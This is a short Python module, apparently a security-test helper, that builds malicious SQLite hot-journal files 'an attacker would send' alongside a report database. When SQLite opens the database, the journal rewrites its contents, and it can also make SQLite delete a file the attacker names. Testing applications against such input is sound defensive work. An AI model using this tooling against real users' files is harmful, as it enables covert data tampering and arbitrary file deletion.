"""Side files an attacker would send with a report file, built byte by byte after
SQLite's documented formats (https://sqlite.org/fileformat.html#the_rollback_journal)."""

from __future__ import annotations

import struct

JOURNAL_MAGIC = bytes.fromhex("d9d505f920a163d7")
SECTOR = 512
PENDING_BYTE = 0x40000000


def page_size(database: bytes) -> int:
    size = struct.unpack(">H", database[16:18])[0]
    return 65536 if size == 1 else size


def hot_journal(wanted: bytes, sent: bytes, super_journal: str | None = None) -> bytes:
    """A hot journal that, played back into `sent`, turns it into `wanted` (SQLite writes
    the journal's pages over the file and truncates it to the journal's size). With
    `super_journal`, the journal names that file as its super-journal, which SQLite
    deletes after playing the journal back."""
    size = page_size(wanted)
    count = len(wanted) // size
    pages = [
        n
        for n in range(1, count + 1)
        if wanted[(n - 1) * size : n * size] != sent[(n - 1) * size : n * size]
    ]
    nonce = 0x2545F491
    header = JOURNAL_MAGIC + struct.pack(">IIIII", len(pages), nonce, count, SECTOR, size)
    journal = bytearray(header.ljust(SECTOR, b"\0"))
    for n in pages:
        data = wanted[(n - 1) * size : n * size]
        checksum = nonce + sum(data[i] for i in range(size - 200, 0, -200))
        journal += struct.pack(">I", n) + data + struct.pack(">I", checksum & 0xFFFFFFFF)
    if super_journal is not None:
        name = super_journal.encode("utf-8")
        journal += struct.pack(">I", PENDING_BYTE // size + 1) + name
        # SQLite sums the name as C chars, which are signed on the usual platforms.
        checksum = sum(b - 256 if b > 127 else b for b in name)
        journal += struct.pack(">II", len(name), checksum & 0xFFFFFFFF) + JOURNAL_MAGIC
    return bytes(journal)
